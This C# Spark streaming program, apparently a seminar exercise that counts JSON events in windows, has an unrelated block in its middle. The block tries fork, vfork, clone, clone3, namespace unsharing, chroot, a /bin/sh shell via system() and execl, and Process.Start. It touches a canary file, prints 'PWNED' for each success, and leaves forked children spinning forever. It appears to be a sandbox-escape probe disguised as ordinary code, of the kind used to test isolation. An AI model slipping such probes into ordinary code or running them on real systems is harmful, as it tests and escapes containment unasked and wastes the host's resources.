using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

Try("fork", () => Check(Native.fork()));
Try("vfork", () => Check((int)Native.syscall(58, 0, 0, 0, 0, 0, 0)));
Try("clone", () => Check((int)Native.syscall(56, 17, 0, 0, 0, 0, 0)));
Try("clone-vm", () => Check((int)Native.syscall(56, 0x4000, 0, 0, 0, 0, 0)));
Try("clone3", () => { nint args = Marshal.AllocHGlobal(128); for (int i = 0; i < 128; i++) Marshal.WriteByte(args, i, 0); Marshal.WriteInt64(args, 32, 17); return Check((int)Native.syscall(435, args, 88, 0, 0, 0, 0)); });
Try("system", () => Native.system("touch /tmp/canary-new-processes") == 0 ? "shell" : null);
Try("exec", () => { Native.execl("/bin/sh", "sh", "-c", "touch /tmp/canary-new-processes", IntPtr.Zero); return null; });
Try("start", () => System.Diagnostics.Process.Start("/usr/bin/touch", "/tmp/canary-new-processes")?.Id.ToString());
Try("namespace", () => Native.syscall(272, 0x10000000, 0, 0, 0, 0, 0) == 0 ? "namespace" : null);
Try("chroot", () => Native.syscall(161, 0, 0, 0, 0, 0, 0) == 0 ? "chroot" : null);

static string? Check(int child)
{
    if (child == 0) { while (true) Thread.SpinWait(1000); }
    return child > 0 ? "process" : null;
}

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}

internal static class Native
{
    [DllImport("libc")] public static extern int fork();
    [DllImport("libc")] public static extern int system(string command);
    [DllImport("libc")] public static extern int execl(string path, string a, string b, string c, IntPtr end);
    [DllImport("libc")] public static extern nint syscall(nint number, nint a, nint b, nint c, nint d, nint e, nint f);
}
